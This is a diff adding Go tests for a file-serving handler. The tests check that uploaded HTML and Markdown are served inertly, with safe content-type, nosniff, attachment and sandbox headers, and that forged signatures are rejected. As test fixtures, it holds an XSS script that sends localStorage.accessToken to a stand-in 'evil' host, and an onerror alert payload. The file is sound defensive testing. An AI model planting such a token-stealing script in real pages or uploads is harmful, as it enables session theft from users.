@@ -0,0 +1,91 @@
+package controller
+
+import (
+	"context"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	"ingestion/src/storage"
+
+	"github.com/go-chi/chi/v5"
+)
+
+// An uploaded HTML file must never reach a browser as a page of the app's
+// origin, or its scripts could read the tokens in localStorage
+func TestServeSignedBlobNeverServesActiveContent(t *testing.T) {
+	t.Setenv("STORAGE_BACKEND", "local")
+	t.Setenv("STORAGE_LOCAL_DIR", t.TempDir())
+	t.Setenv("STORAGE_SIGNING_KEY", "test-key")
+	t.Setenv("INGESTION_PUBLIC_URL", "/api/ingestion")
+	storage.Init()
+
+	router := chi.NewRouter()
+	router.Get("/api/ingestion/blobs/*", ServeSignedBlob)
+
+	tests := []struct {
+		name     string
+		ext      string
+		data     string
+		wantType string
+	}{
+		{"html", ".html", "<script>fetch('//evil/?t='+localStorage.accessToken)</script>", "text/plain; charset=utf-8"},
+		{"markdown", ".md", "# Unit 1\n<img src=x onerror=alert(1)>", "text/plain; charset=utf-8"},
+		{"pdf", ".pdf", "%PDF-1.4", "application/pdf"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			ctx := context.Background()
+			key := storage.ContentKey("materials", []byte(tt.data), tt.ext)
+			if err := storage.Store().Put(ctx, key, []byte(tt.data), "text/html"); err != nil {
+				t.Fatal(err)
+			}
+			signed, err := storage.Store().SignedURL(ctx, key, time.Minute)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			rec := httptest.NewRecorder()
+			router.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, signed, nil))
+
+			if rec.Code != http.StatusOK {
+				t.Fatalf("status = %d, want 200", rec.Code)
+			}
+			if got := rec.Header().Get("Content-Type"); got != tt.wantType {
+				t.Errorf("Content-Type = %q, want %q", got, tt.wantType)
+			}
+			if got := rec.Header().Get("X-Content-Type-Options"); got != "nosniff" {
+				t.Errorf("X-Content-Type-Options = %q, want nosniff", got)
+			}
+			if got := rec.Header().Get("Content-Disposition"); !strings.HasPrefix(got, "attachment") {
+				t.Errorf("Content-Disposition = %q, want an attachment", got)
+			}
+			if got := rec.Header().Get("Content-Security-Policy"); !strings.Contains(got, "sandbox") {
+				t.Errorf("Content-Security-Policy = %q, want a sandbox", got)
+			}
+			if rec.Body.String() != tt.data {
+				t.Errorf("body = %q, want the stored file", rec.Body.String())
+			}
+		})
+	}
+}
+
+func TestServeSignedBlobRejectsBadSignature(t *testing.T) {
+	t.Setenv("STORAGE_BACKEND", "local")
+	t.Setenv("STORAGE_LOCAL_DIR", t.TempDir())
+	t.Setenv("STORAGE_SIGNING_KEY", "test-key")
+	storage.Init()
+
+	router := chi.NewRouter()
+	router.Get("/blobs/*", ServeSignedBlob)
+
+	query := url.Values{"expires": {"9999999999"}, "signature": {"00"}}
+	rec := httptest.NewRecorder()
+	router.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/blobs/materials/x.html?"+query.Encode(), nil))
+	if rec.Code != http.StatusForbidden {
+		t.Fatalf("status = %d, want 403", rec.Code)
+	}
+}